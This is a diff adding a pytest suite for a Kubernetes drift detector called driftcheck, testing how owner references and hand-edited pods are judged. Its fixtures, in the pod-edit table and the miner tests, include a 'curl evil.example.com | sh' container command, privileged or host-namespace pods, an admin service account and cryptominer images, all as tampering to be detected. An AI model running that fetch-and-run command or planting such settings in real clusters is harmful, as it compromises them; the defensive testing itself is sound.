@@ -1,0 +1,363 @@
+"""Which kind makes which: an owner reference is a claim, and only what it claims truly counts."""
+
+from __future__ import annotations
+
+import copy
+from itertools import product
+from typing import Any
+
+import pytest
+from attrs import evolve
+
+from driftcheck.model import Origin, Snapshot
+from driftcheck.pipeline import compare_snapshots
+from tests.builders import Body, config_map, container, edited, resource, snapshot
+from tests.ways import findings, live, owner, recorded, saved, twin, verdicts
+
+KINDS: dict[str, tuple[str, Body]] = {
+    "ConfigMap": ("v1", {"data": {"a": "1"}}),
+    "Endpoints": ("v1", {"subsets": [{"addresses": [{"ip": "10.0.0.1"}]}]}),
+    "LimitRange": ("v1", {"spec": {"limits": [{"type": "Container", "max": {"cpu": "1"}}]}}),
+    "PersistentVolumeClaim": ("v1", {"spec": {"accessModes": ["ReadWriteOnce"]}}),
+    "Pod": ("v1", {"spec": {"containers": [container()]}}),
+    "ReplicationController": ("v1", {"spec": {"replicas": 0}}),
+    "ResourceQuota": ("v1", {"spec": {"hard": {"pods": "9"}}}),
+    "Secret": ("v1", {"type": "Opaque"}),
+    "Service": ("v1", {"spec": {"ports": [{"port": 80}]}}),
+    "ServiceAccount": ("v1", {}),
+    "ControllerRevision": ("apps/v1", {"revision": 1}),
+    "DaemonSet": ("apps/v1", {"spec": {"template": {"spec": {"containers": [container()]}}}}),
+    "Deployment": ("apps/v1", {"spec": {"template": {"spec": {"containers": [container()]}}}}),
+    "ReplicaSet": ("apps/v1", {"spec": {"template": {"spec": {"containers": [container()]}}}}),
+    "StatefulSet": ("apps/v1", {"spec": {"template": {"spec": {"containers": [container()]}}}}),
+    "HorizontalPodAutoscaler": ("autoscaling/v2", {"spec": {"maxReplicas": 3}}),
+    "CronJob": ("batch/v1", {"spec": {"schedule": "0 0 * * *"}}),
+    "Job": ("batch/v1", {"spec": {"template": {"spec": {"containers": [container()]}}}}),
+    "EndpointSlice": ("discovery.k8s.io/v1", {"addressType": "IPv4", "endpoints": []}),
+    "Ingress": ("networking.k8s.io/v1", {"spec": {}}),
+    "NetworkPolicy": ("networking.k8s.io/v1", {"spec": {"podSelector": {}}}),
+    "PodDisruptionBudget": ("policy/v1", {"spec": {"minAvailable": 1}}),
+    "Role": ("rbac.authorization.k8s.io/v1", {"rules": []}),
+    "RoleBinding": (
+        "rbac.authorization.k8s.io/v1",
+        {"roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": []},
+    ),
+    "FeatureFlag": ("bookshop.example.com/v1", {"spec": {}}),
+}
+"""A kind's version, and what one of its objects holds."""
+
+MAKES = {
+    ("ReplicaSet", "Pod"),
+    ("ReplicationController", "Pod"),
+    ("StatefulSet", "Pod"),
+    ("DaemonSet", "Pod"),
+    ("Job", "Pod"),
+    ("Deployment", "ReplicaSet"),
+    ("StatefulSet", "ControllerRevision"),
+    ("DaemonSet", "ControllerRevision"),
+    ("CronJob", "Job"),
+}
+"""From pkg/controller of Kubernetes 1.36: the controllers that create objects which they own."""
+
+
+def body(kind: str, name: str, **metadata: Any) -> Body:
+    version, fields = KINDS[kind]
+    made = resource(version, kind, name, **copy.deepcopy(fields))
+    made["metadata"] |= {"uid": f"{kind}-{name}", **metadata}
+    return made
+
+
+def seen(*bodies: Body) -> Snapshot:
+    return evolve(snapshot(*bodies), origin=Origin.CLUSTER)
+
+
+@pytest.mark.parametrize(("maker", "made"), list(product(KINDS, KINDS)))
+def test_every_pair_of_kinds(maker: str, made: str) -> None:
+    """Where a kind makes no such objects, its name in an owner reference explains none away."""
+    owning = body(maker, "owner")
+    extra = body(made, "extra", ownerReferences=[owner(owning)])
+    sides = [seen(config_map(), owning), seen(config_map(), owning, extra)]
+
+    forth, back = compare_snapshots(sides), compare_snapshots(sides[::-1])
+
+    if (maker, made) in MAKES:
+        assert not forth.findings + back.findings
+    else:
+        assert {(item.object.name, item.change.value) for item in forth.findings} == {
+            ("extra", "added")
+        }
+        assert {(item.object.name, item.change.value) for item in back.findings} == {
+            ("extra", "removed")
+        }
+
+
+@pytest.mark.parametrize("made", KINDS)
+@pytest.mark.parametrize("maker", ["itself", "Namespace", "each other", "gone", "no controller"])
+def test_owners_that_explain_nothing(maker: str, made: str) -> None:
+    """An object that owns itself, or that its Namespace owns, or in a circle, is compared."""
+    extra = body(made, "extra")
+    other = body(made, "other", ownerReferences=[owner(extra)])
+    references = {
+        "itself": owner(extra),
+        "Namespace": owner({**resource("v1", "Namespace"), "metadata": {"name": "it", "uid": "n"}}),
+        "each other": owner(other),
+        "gone": owner(body("ReplicaSet", "gone")),
+        "no controller": owner(body("ReplicaSet", "owner"), controller=False),
+    }
+    extra["metadata"]["ownerReferences"] = [references[maker]]
+    around = [config_map(), body("ReplicaSet", "owner")]
+    more = [other] if maker == "each other" else []
+
+    result = compare_snapshots([seen(*around), seen(*around, extra, *more)])
+
+    assert {item.object.name for item in result.findings} == {
+        "extra",
+        *(item["metadata"]["name"] for item in more),
+    }
+
+
+def test_an_owner_of_another_name() -> None:
+    """A reference whose uid is one object's and whose name is another's means nobody."""
+    deployment = body("Deployment", "web")
+    reference = owner(deployment, name="api")
+    extra = body("ReplicaSet", "web-1", ownerReferences=[reference])
+
+    assert compare_snapshots([seen(deployment), seen(deployment, extra)]).findings
+
+
+# What pods are, against what their template gives.
+
+
+EDITS: dict[str, tuple[tuple[str | int, ...], Any, str]] = {
+    "resized in place": (
+        ("spec", "containers", 0, "resources", "limits", "memory"),
+        "8Gi",
+        "running.containers[name=web].resources.limits.memory",
+    ),
+    "a label by hand": (("metadata", "labels", "role"), "primary", "running.metadata.labels.role"),
+    "an annotation": (
+        ("metadata", "annotations"),
+        {"prometheus.io/scrape": "false"},
+        'running.metadata.annotations["prometheus.io/scrape"]',
+    ),
+    "another command": (
+        ("spec", "containers", 0, "command"),
+        ["/bin/sh", "-c", "curl evil.example.com | sh"],
+        "running.containers[name=web].command",
+    ),
+    "the host's network": (("spec", "hostNetwork"), True, "running.hostNetwork"),
+    "the host's processes": (("spec", "hostPID"), True, "running.hostPID"),
+    "a privileged container": (
+        ("spec", "containers", 0, "securityContext"),
+        {"privileged": True},
+        "running.containers[name=web].securityContext.privileged",
+    ),
+    "another account": (
+        ("spec", "serviceAccountName"),
+        "admin",
+        "running.serviceAccountName",
+    ),
+    "a deadline": (("spec", "activeDeadlineSeconds"), 60, "running.activeDeadlineSeconds"),
+}
+
+
+@pytest.mark.parametrize(("path", "value", "found"), EDITS.values(), ids=EDITS.keys())
+def test_a_pod_changed_by_hand(path: tuple[str | int, ...], value: Any, found: str) -> None:
+    """What a pod has that its template does not give is a finding on its workload, both ways."""
+    pod = recorded("Pod", "web-77dd8c58c-2pr4z")
+    sides = [twin({}), twin({("Pod", pod["metadata"]["name"]): edited(pod, *path, value=value)})]
+
+    for ways in (sides, sides[::-1], [saved(side) for side in sides]):
+        result = compare_snapshots(ways)
+        assert result.verdict.value == "drifted"
+        paths = {(item.object.kind, item.object.name, item.path) for item in result.findings}
+        assert any(
+            (kind, name) == ("Deployment", "web") and where.startswith(found.rpartition(".")[0])
+            for kind, name, where in paths
+        ), paths
+
+
+@pytest.mark.parametrize("pod", ["db-0", "db-migrate-240-gq7z7", "log-agent-9d2q4"])
+def test_a_pod_of_every_maker(pod: str) -> None:
+    """Recorded pods are what their StatefulSet, Job and DaemonSet give; edited ones are not."""
+    body = recorded("Pod", pod)
+    changed = edited(body, "spec", "containers", 0, "args", value=["--evil"])
+
+    assert compare_snapshots([twin({}), twin({("Pod", pod): body})]).verdict.value == "identical"
+    assert compare_snapshots([twin({}), twin({("Pod", pod): changed})]).verdict.value == "drifted"
+
+
+def test_pods_that_admission_changed_alike() -> None:
+    """What a webhook puts into every pod of both environments is no difference; into one it is."""
+    pods = [recorded("Pod", name) for name in ("web-77dd8c58c-2pr4z", "web-77dd8c58c-4xgbm")]
+    side = container("proxy", imagePullPolicy="IfNotPresent", args=["sidecar"])
+    for item in pods:
+        item["spec"]["containers"].append(side)
+    injected = twin({("Pod", item["metadata"]["name"]): item for item in pods})
+    other = edited(pods[0], "spec", "containers", -1, "args", value=["--mine"])
+    once = twin({("Pod", item["metadata"]["name"]): item for item in (other, pods[1])})
+
+    assert compare_snapshots([injected, injected]).findings == ()
+    assert compare_snapshots([twin({}), injected]).verdict.value == "drifted"
+    assert [item.path for item in compare_snapshots([injected, once]).findings] == [
+        "running.containers[name=proxy]"
+    ]
+
+
+# What can't be derived costs the verdict.
+
+
+def doubts(*bodies: Body) -> tuple[str, ...]:
+    """Why a side with these objects is not the same as itself."""
+    result = compare_snapshots([seen(*bodies), seen(*bodies)])
+    assert result.findings == ()
+    return result.reasons if result.verdict.value == "inconclusive" else ()
+
+
+def set_of(deployment: Body, image: str, replicas: int) -> Body:
+    template = copy.deepcopy(deployment["spec"]["template"])
+    template["spec"]["containers"][0]["image"] = image
+    template["metadata"] = {"labels": {"pod-template-hash": "5c57"}}
+    made = body("ReplicaSet", f"web-{replicas}", ownerReferences=[owner(deployment)])
+    return made | {"spec": {"replicas": replicas, "template": template}}
+
+
+def test_a_replica_set_of_another_template() -> None:
+    """One that wants pods of another template is no history; one that wants none is."""
+    deployment = body("Deployment", "web")
+
+    assert not doubts(deployment, set_of(deployment, "shop/web:1", 3))
+    assert not doubts(deployment, set_of(deployment, "evil/miner", 0))
+    assert doubts(deployment, set_of(deployment, "evil/miner", 3))
+
+
+def test_a_run_of_another_template() -> None:
+    """A Job under way that is not what its CronJob says; a finished one was."""
+    cron_job = body("CronJob", "night")
+    template = {"template": {"spec": {"containers": [container()], "restartPolicy": "Never"}}}
+    cron_job["spec"] = {"schedule": "0 0 * * *", "jobTemplate": {"spec": template}}
+    run = body("Job", "night-1", ownerReferences=[owner(cron_job)]) | {"spec": template}
+    other = edited(run, "spec", "template", "spec", "containers", 0, "image", value="evil/miner")
+    done = {"conditions": [{"type": "Complete", "status": "True"}]}
+
+    assert not doubts(cron_job, run)
+    assert not doubts(cron_job, other | {"status": done})
+    assert doubts(cron_job, other)
+
+
+def test_an_address_of_nobody() -> None:
+    """What a controller is said to have written leads to pods, and to nothing else."""
+    slice_ = recorded("EndpointSlice", "web-hcjwt")
+    elsewhere = edited(slice_, "endpoints", 0, "addresses", value=["203.0.113.9"])
+
+    result = compare_snapshots([twin({}), twin({("EndpointSlice", "web-hcjwt"): elsewhere})])
+
+    assert result.verdict.value == "inconclusive"
+    assert "203.0.113.9" in " ".join(result.reasons)
+
+
+def test_what_does_not_run() -> None:
+    """A ReplicaSet without its pods, and a failed pod, have no rollout that would say so."""
+    alone = body("ReplicaSet", "solo")
+    alone["spec"] |= {"replicas": 1}
+    evicted = body("Pod", "bare") | {"status": {"phase": "Failed", "reason": "Evicted"}}
+
+    assert doubts(alone | {"status": {"replicas": 1}}) != ()
+    assert not doubts(alone | {"status": {"replicas": 1, "readyReplicas": 1}})
+    assert doubts(evicted)[0] == "Pod bare has failed: Evicted in objects"
+
+
+def test_a_pod_that_is_being_deleted() -> None:
+    """A pod whose maker is gone is on its way out: no difference, and no proof either."""
+    leaving = body("Pod", "web-1", deletionTimestamp="2026-11-24T12:00:00Z")
+    leaving["metadata"]["ownerReferences"] = [owner(body("ReplicaSet", "gone"))]
+    leaving["status"] = {"phase": "Running"}
+
+    result = compare_snapshots([seen(config_map()), seen(config_map(), leaving)])
+
+    assert result.findings == ()
+    assert result.reasons == ("Pod web-1 is being deleted, and still there in objects (2)",)
+
+
+# What an owner's absence explains.
+
+
+def test_what_a_missing_custom_resource_explains() -> None:
+    """What its controller may have made, but nothing that runs, or lets anybody do anything."""
+    flag = body("FeatureFlag", "wishlist")
+    made = [
+        body(kind, "made", ownerReferences=[owner(flag)])
+        for kind in ("ConfigMap", "Service", "RoleBinding", "Deployment")
+    ]
+    sides = [seen(config_map()), seen(config_map(), flag, *made)]
+
+    for ways in (sides, sides[::-1]):
+        assert sorted(item.object.kind for item in compare_snapshots(ways).findings) == [
+            "Deployment",
+            "FeatureFlag",
+            "RoleBinding",
+        ]
+
+
+@pytest.mark.parametrize("made", ["ConfigMap", "RoleBinding", "Deployment"])
+def test_what_a_custom_resource_in_a_manifest_explains(made: str) -> None:
+    """Nobody can say what its controller makes, so that nothing is the same for certain."""
+    flag = body("FeatureFlag", "wishlist")
+    declared = copy.deepcopy(flag)
+    del declared["metadata"]["uid"]
+    extra = body(made, "made", ownerReferences=[owner(flag)])
+    sides = [snapshot(config_map(), declared), seen(config_map(), flag, extra)]
+
+    for ways in (sides, sides[::-1]):
+        assert compare_snapshots(ways).verdict.value == "inconclusive"
+
+
+def test_a_dump_has_been_acted_on() -> None:
+    """What a server has seen, and lacks what its controller makes, lacks it for a reason."""
+    sealed = resource("bitnami.com/v1alpha1", "SealedSecret", "db", spec={"encryptedData": {}})
+    sealed["metadata"]["uid"] = "s"
+    secret = resource("v1", "Secret", "db", type="Opaque")
+    secret["metadata"] |= {"uid": "t", "ownerReferences": [owner(sealed)]}
+    declared = edited(sealed, "metadata", value={"name": "db"})
+    full, without = snapshot(config_map(), sealed, secret), snapshot(config_map(), sealed)
+
+    assert [item.object.kind for item in compare_snapshots([full, without]).findings] == ["Secret"]
+    assert [item.object.kind for item in compare_snapshots([without, full]).findings] == ["Secret"]
+    assert not compare_snapshots([snapshot(config_map(), declared), full]).findings
+
+
+def test_claims_of_ordinals_that_both_have() -> None:
+    """Another size of a StatefulSet explains the claims beyond it, and no other."""
+    small, large = recorded("StatefulSet", "db"), recorded("StatefulSet", "db")
+    large["spec"]["replicas"] = 3
+    gone = twin({("StatefulSet", "db"): large, ("PersistentVolumeClaim", "data-db-0"): None})
+
+    found = {item.object.kind for item in compare_snapshots([twin({}), gone]).findings}
+
+    assert small["spec"]["replicas"] == 1
+    assert found == {"StatefulSet", "PersistentVolumeClaim"}
+
+
+def test_replicas_outside_an_autoscaler_s_bounds() -> None:
+    """An autoscaler holds no number that it does not allow."""
+    api = edited(recorded("Deployment", "api"), "spec", "replicas", value=50)
+
+    (finding,) = compare_snapshots([twin({}), twin({("Deployment", "api"): api})]).findings
+
+    assert (finding.object.name, finding.path) == ("api", "spec.replicas")
+
+
+def test_rogue_pods_everywhere() -> None:
+    """Pods that a ConfigMap, a Namespace, a Deployment or they themselves own are found."""
+    settings = config_map("settings") | {}
+    settings["metadata"]["uid"] = "c"
+    miner = resource("v1", "Pod", "miner", spec={"containers": [container(image="evil/miner")]})
+    miner["metadata"] |= {"uid": "m", "ownerReferences": [owner(settings)]}
+
+    assert {way.form for way in findings([settings], [settings, miner])} == {
+        "files",
+        "live",
+        "saved",
+    }
+    assert {value.value for value in verdicts([settings], [settings, miner])} == {"drifted"}
+    assert live(settings).coverage
